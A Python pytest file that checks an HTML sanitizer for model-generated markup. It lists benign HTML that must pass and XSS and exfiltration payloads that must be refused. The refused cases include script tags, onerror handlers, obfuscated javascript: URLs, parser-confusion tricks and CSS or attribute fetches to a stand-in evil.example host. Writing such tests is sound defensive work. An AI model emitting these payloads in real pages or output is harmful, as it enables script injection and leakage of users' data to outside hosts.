"""HTML that a model makes shows data, and does nothing."""

import pytest

from rightseat.core.errors import BadAsk
from rightseat.faces.openbb.markup import check

DOT = "data:image/png;base64,iVBORw0KGgo="


@pytest.mark.parametrize(
    "html",
    [
        '<div style="padding:8px"><b>€124.5K</b></div>',
        "a < b & c > d",
        '<style>.up { color: green; background: linear-gradient(red, blue) }</style><p class="up">Up',
        f'<img src="{DOT}" alt="dot">',
        '<svg viewBox="0 0 9 9"><defs><path id="p"/></defs><use href="#p"/><rect style="fill:url(#g)"/></svg>',
        '<a href="https://example.com/?a=b">more</a> <a href="mailto:a@b.c">mail</a> <a href="#top">top</a>',
        "<!DOCTYPE html><!-- a comment --> fine &lt;script&gt;",
        "<table><tr><td>1",
    ],
)
def test_plain_html_is_shown(html: str) -> None:
    check(html)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//x>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
        "<?x <img src=x onerror=alert(1)>?>",
        '<img src="https://evil.example/?secret=1">',
        '<img src="//evil.example/x.png">',
        '<img srcset="https://evil.example/x.png 2x">',
        '<img src=x onerror="alert(1)">',
        "<div onclick=alert(1)>",
        '<iframe srcdoc="<p>">',
        '<form action="https://evil.example">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<svg><image href="https://evil.example/x.png"/></svg>',
        '<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>',
        '<div style="background:url(https://evil.example/x)">',
        '<div style="background:u/**/rl(//evil.example/x)">',
        '<div style="background:\\75rl(//evil.example/x)">',
        "<style>@import 'https://evil.example/x.css'</style>",
        '<style>p { background: URL( "https://evil.example/x" ) }</style>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<base href="https://evil.example">',
        '<table background="https://evil.example/x">',
        '<a href="https://ok.example" ping="https://evil.example">x</a>',
        "x" * 200_001,
    ],
)
def test_what_acts_or_fetches_is_refused(html: str) -> None:
    with pytest.raises(BadAsk):
        check(html)
